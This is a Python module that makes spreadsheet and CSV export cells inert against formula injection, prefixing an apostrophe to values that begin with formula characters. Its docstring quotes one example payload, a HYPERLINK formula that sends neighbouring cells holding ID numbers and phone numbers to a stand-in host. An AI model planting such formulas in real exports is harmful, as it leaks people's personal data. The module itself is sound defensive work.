"""Cells of every spreadsheet or CSV the platform writes, made inert.

A cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return before one)
is read by Excel, WPS and LibreOffice as a formula: a resident registered under the name
``=HYPERLINK("http://evil.example/?"&B2&C2,"点此核对")`` would, in an unmasked export, send the
neighbouring cells (ID numbers, phones) to that address when clicked. Following OWASP's advice
on CSV injection, such a value is written as text behind a leading apostrophe, and every value
is written as a string (never as a formula: openpyxl turns any string starting with ``=`` into
one)."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable
from typing import Any

from .text import xml_safe

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")  # and full-width forms


def safe_cell(value: Any) -> Any:
    """The value as it may be written to a cell: numbers and dates as they are, text that could
    start a formula behind an apostrophe (shown as text by every spreadsheet program)."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | float | dt.date | dt.datetime | dt.time):
        return value
    text = xml_safe(str(value))  # a spreadsheet is XML: a control character stored long ago must not break it
    if text.startswith(FORMULA_START):
        return "'" + text
    return text


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def xlsx_append(ws: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet with every cell inert. Strings are written as string
    cells (data type ``s``) even if openpyxl would take them for a formula."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for v in safe_row(values):
        if isinstance(v, str):
            cell = WriteOnlyCell(ws, value=None)
            cell.value = v
            cell.data_type = "s"  # openpyxl sets "f" for a string beginning with "="; the apostrophe already prevents it
            row.append(cell)
        else:
            row.append(v)
    ws.append(row)


def csv_writer(out: Any, **kwargs: Any) -> Any:
    """A csv.writer whose rows are made inert cell by cell."""
    import csv

    writer = csv.writer(out, **kwargs)

    class _Safe:
        def writerow(self, values: Iterable[Any]) -> Any:
            return writer.writerow(safe_row(values))

        def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
            for r in rows:
                self.writerow(r)

    return _Safe()
